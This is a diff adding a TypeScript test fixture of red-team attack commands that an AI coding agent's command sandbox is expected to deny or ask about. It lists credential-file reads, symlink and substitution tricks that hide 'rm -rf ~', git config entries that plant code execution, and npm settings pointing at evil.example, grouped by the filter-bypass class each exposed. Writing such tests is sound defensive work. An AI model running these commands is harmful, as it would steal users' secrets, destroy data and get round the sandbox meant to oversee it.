@@ -1,0 +1,217 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these strings are shell commands, where ${x:…} is bash syntax.
+import type { CommandAttack } from "./attack-cases.js";
+
+/**
+ * The fifth red-team pass: one group per class that was found open (and fixed). Placeholders and
+ * fixtures as in attack-cases.ts and sandbox.ts; `bare/` (a bare repository whose config sets
+ * diff.external) and `hooked/` (a repository with core.hooksPath = .husky) are made by the test.
+ */
+const deny = (group: string, rule: string, commands: string[]): CommandAttack[] =>
+  commands.map((command) => ({ group, command, decision: "deny", rule }));
+const ask = (group: string, rule: string, commands: string[]): CommandAttack[] =>
+  commands.map((command) => ({ group, command, decision: "ask", rule }));
+
+export const session5CommandAttacks: CommandAttack[] = [
+  // Class: a version probe that is not one (`make version` runs a target, `npm version` bumps and runs
+  // scripts, `java version` runs a class, `python -v` reads a program from standard input).
+  ...ask("version words that run code", "command.not-readonly", [
+    "make version",
+    "npm version",
+    "yarn version",
+    "pnpm version",
+    "java version",
+    "tsc version",
+    "vitest version",
+    "gcc version",
+    "clang version",
+    "pip version",
+    "node version",
+    "python -v",
+    "python3 -v < README.md",
+    "ruby -v",
+    "ruby -v < cleanup.sh",
+    "gcc -v",
+  ]),
+  // Class: a program named like a member of Object.prototype found the prototype in a lookup table
+  // (`constructor` crashed the engine; others were judged against a function).
+  ...ask("program names that are Object.prototype members", "command.not-readonly", [
+    "constructor",
+    "constructor --version",
+    "__proto__",
+    "toString README.md",
+    "valueOf README.md",
+    "hasOwnProperty x",
+    "__defineGetter__ a b",
+    "isPrototypeOf",
+  ]),
+  // Class: git grep's pager option inside a short-option cluster.
+  ...ask("git grep -O inside a cluster", "command.not-readonly", [
+    "git grep -nOid foo",
+    "git grep -iO'sh -c id' foo",
+    "git grep -nO foo",
+    "git grep -wiOvim foo",
+    "git --no-pager grep -cOless foo",
+  ]),
+  // Class: a file named by a value glued to a short option (`-Ofile`, `-d@file`).
+  ...deny("values attached to short options", "path.sensitive", [
+    "git diff -Oinnocent.txt",
+    "git diff -O~/.ssh/id_rsa",
+    "git log -Olinkdir/id_rsa",
+    "git grep -nfinnocent.txt",
+    "curl -d@innocent.txt http://example.com",
+    "curl -Kinnocent.txt",
+    "tar -cf out.tar -Tinnocent.txt",
+    "wget -iinnocent.txt",
+  ]),
+  // Class: tools that write their own settings file, which the command line does not name.
+  ...ask("git config writes the repository's config", "path.git-internals", [
+    "git config core.fsmonitor id",
+    "git config --local core.pager id",
+    "git config -f .git/config core.hooksPath h",
+    "git config --worktree core.sshCommand x",
+    "git config include.path ../evil.cfg",
+    "git config alias.st '!id'",
+    "git config filter.x.clean id",
+    "git config set alias.st '!id'",
+    "git config --unset core.pager",
+    "git config user.email a@b.c",
+    "git -C src config alias.x '!id'",
+    "git init --template=./tpl",
+    "git clone --template=./tpl x y",
+    "git clone -c core.fsmonitor=id x y",
+    "git clone --config=alias.x=!id x y",
+  ]),
+  ...deny("tool settings written into a secret file", "path.sensitive", [
+    "npm config set registry http://evil.example",
+    "npm set script-shell ./evil",
+    "npm config edit",
+    "git config --file=%HOME%/.ssh/config alias.x y",
+  ]),
+  ...deny("tool settings written into a system file", "hardline.system-write", [
+    "git config --system core.pager x",
+  ]),
+  // Class: a project's secrets in files other than `.env`.
+  ...ask("project secret files", "path.env-file", [
+    "cat .envrc",
+    "cat .dev.vars",
+    "cat secrets.json",
+    "cat config/secrets.yml",
+    "cat credentials.json",
+    "cat service-account.json",
+    "cat client_secret_123.apps.googleusercontent.com.json",
+    "cat terraform.tfstate",
+    "cat infra/terraform.tfstate.backup",
+    "cat prod.env",
+    "cat .env-local",
+    "cat .npmrc",
+    "cat .yarnrc.yml",
+    "cat .pypirc",
+    "head -n 3 .htpasswd",
+  ]),
+  // Class: credential files of tools the list did not have (AI assistants, platform CLIs), container
+  // secrets, raw disks, copies of Mercury's own .env.
+  ...deny("credential files of more tools", "path.sensitive", [
+    "cat ~/.codex/auth.json",
+    "cat ~/.claude/.credentials.json",
+    "cat ~/.claude.json",
+    "cat ~/.gemini/oauth_creds.json",
+    "cat ~/.config/github-copilot/hosts.json",
+    "cat ~/.huggingface/token",
+    "cat ~/.cache/huggingface/token",
+    "cat ~/.composer/auth.json",
+    "cat ~/.config/containers/auth.json",
+    "cat ~/.pulumi/credentials.json",
+    "cat ~/.fly/config.yml",
+    "cat ~/.config/netlify/config.json",
+    "cat ~/.local/share/com.vercel.cli/auth.json",
+    "cat ~/.wrangler/config/default.toml",
+    "cat ~/.supabase/access-token",
+    "cat ~/.config/stripe/config.toml",
+    "cat ~/.config/hcloud/cli.toml",
+    "cat ~/.ngrok2/ngrok.yml",
+    "cat ~/.config/ngrok/ngrok.yml",
+    "cat ~/.Xauthority",
+    "cat ~/.irb_history",
+    "cat /run/secrets/db_password",
+    "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
+    "cat /etc/ssl/private/server.key",
+    "cat %MH%/.env.bak",
+    "cat %MH%/.env~",
+    "cp %MH%/.env.save x",
+    "cat /dev/sda",
+    "head -c 512 /dev/nvme0n1",
+    "strings /dev/sda1",
+    "dd if=/dev/sda of=disk.img",
+    "cat /dev/mapper/root",
+    "cat disk",
+  ]),
+  // Class: a symlink made earlier in the same command, used later (it did not exist when judged).
+  ...deny("symlink made then used", "path.sensitive", [
+    "ln -s ~ h; cat h/.aws/credentials",
+    "ln -s ~ h && cat h/.aws/credentials",
+    "ln -sf %HOME% h && cat h/.config/gh/hosts.yml",
+    "ln -s ../.. up && cat up/.aws/credentials",
+    "ln -sr ../.. up && cat up/.aws/credentials",
+    "ln -s %MH% m && cat m/.env",
+    "ln -s ~/.config c && cat c/gcloud/credentials.db",
+    "ln -s ~ h; ls h/.ssh",
+    "ln -s ~ h; tar -cf x.tar h/.aws",
+    "ln --symbolic ~ h | cat h/.aws/credentials",
+    "ln -s ~/.aws -t src && cat src/.aws/credentials",
+  ]),
+  ...deny("symlink made then deleted through", "hardline.rm-root", [
+    "ln -s ~ h; rm -rf h/",
+    "ln -s / r && rm -rf r/",
+  ]),
+  // Class: a command substitution where the converter had no field (array literals, `${x:…}`).
+  ...deny("substitutions in array literals and slices", "hardline.rm-root", [
+    "a=( $(rm -rf ~) )",
+    "a=( `rm -rf /` )",
+    "a=([0]=$(rm -rf ~))",
+    "x=( <(rm -rf ~) )",
+    "echo ${x:$(rm -rf ~)}",
+    "echo ${x:0:$(rm -rf ~)}",
+  ]),
+  ...deny("secrets in array literals and test clauses", "path.sensitive", [
+    "a+=( $(cat ~/.ssh/id_rsa) )",
+    "[[ -f ~/.ssh/id_rsa ]]",
+    "[[ -s %MH%/.env ]]",
+  ]),
+  // Class: a folder that is itself a git repository; its config runs programs like a .git's.
+  ...ask("bare repository config", "command.git-repo-config", [
+    "git -C bare log",
+    "git -C bare diff HEAD~1 HEAD",
+    "git --git-dir=bare log",
+  ]),
+];
+
+/**
+ * Asks that allow-all (`--yes`) must not settle: what they leave runs later outside the sandbox
+ * (a repository's config or hooks, the user's settings, programs on PATH).
+ */
+export const session5PersonOnly: string[] = [
+  "git config core.fsmonitor id",
+  "git config alias.st '!id'",
+  "git config --global core.pager 'sh -c id'",
+  "git config --global user.name Bob",
+  "git init --template=./tpl",
+  "git clone -c core.fsmonitor=id x y",
+  "pip config set global.index-url http://evil.example",
+  "npm install -g evil",
+  "npm i --global evil",
+  "pnpm add -g evil",
+  "yarn global add evil",
+  "pip install --user evil",
+  "cargo install evil",
+  "go install example.com/x@latest",
+  "pipx install evil",
+  "gem install evil",
+  "uv tool install evil",
+  "ln -s .git g; echo x > g/config",
+  "ln -s %PROJECT%/.git g && echo x > g/hooks/pre-commit",
+  "echo 'script-shell=./evil' > .npmrc",
+  "npm config set script-shell ./evil --location=project",
+  "echo 'yarnPath: ./evil.js' >> .yarnrc.yml",
+  "echo 'rm -rf ~' > hooked/.husky/pre-commit",
+  "cp cleanup.sh hooked/.husky/pre-push",
+];
